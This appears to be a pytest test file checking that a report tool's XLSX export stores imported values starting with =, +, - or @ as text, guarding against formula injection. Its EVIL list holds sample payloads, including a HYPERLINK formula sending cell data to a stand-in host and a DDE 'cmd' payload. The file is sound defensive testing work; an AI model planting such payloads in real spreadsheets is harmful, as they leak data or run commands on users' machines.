"""XLSX formula injection (issue 12, item 6): imported values that start with =, +, - or @ are
written as text; only the report's own formulas are formulas."""
from __future__ import annotations

import html
import re
import zipfile

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "http://evil.example/x"]


def test_imported_values_are_text_and_own_formulas_stay(ws):
    ws.write("tickets", [{"ticket_id": f"t{i}", "created_at": "2026-10-10T10:00:00Z", "category": v,
                          "channel": v} for i, v in enumerate(EVIL)])
    ws.load()
    path = ws.root / "r.xlsx"
    r = ws.cli("report", "--month", "2026-10", "--as-of", "2026-11-01T00:00:00Z", "--out", str(path))
    assert r.exit_code == 0, r.stdout + r.stderr
    with zipfile.ZipFile(path) as z:
        sheets = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}
        strings = z.read("xl/sharedStrings.xml").decode("utf-8")
        rels = [z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".rels")]
    formulas = [html.unescape(f) for x in sheets.values() for f in re.findall(r"<f>(.*?)</f>", x)]
    assert formulas and all(f.startswith(("SUM(", "IF(", "calc_")) or re.fullmatch(r"[A-Z0-9$*+/()!\'. _a-z]+", f)
                            for f in formulas), formulas  # the report's own: totals and the calculator
    assert not [f for f in formulas if "evil" in f.lower() or "cmd" in f.lower() or "hyperlink" in f.lower()]
    text = html.unescape(strings)
    for v in EVIL:  # each value is in the workbook, as text (channels lower-cased on import)
        assert v in text or v.lower() in text, v
    assert not any("evil.example" in r for r in rels)  # no hyperlink made from data
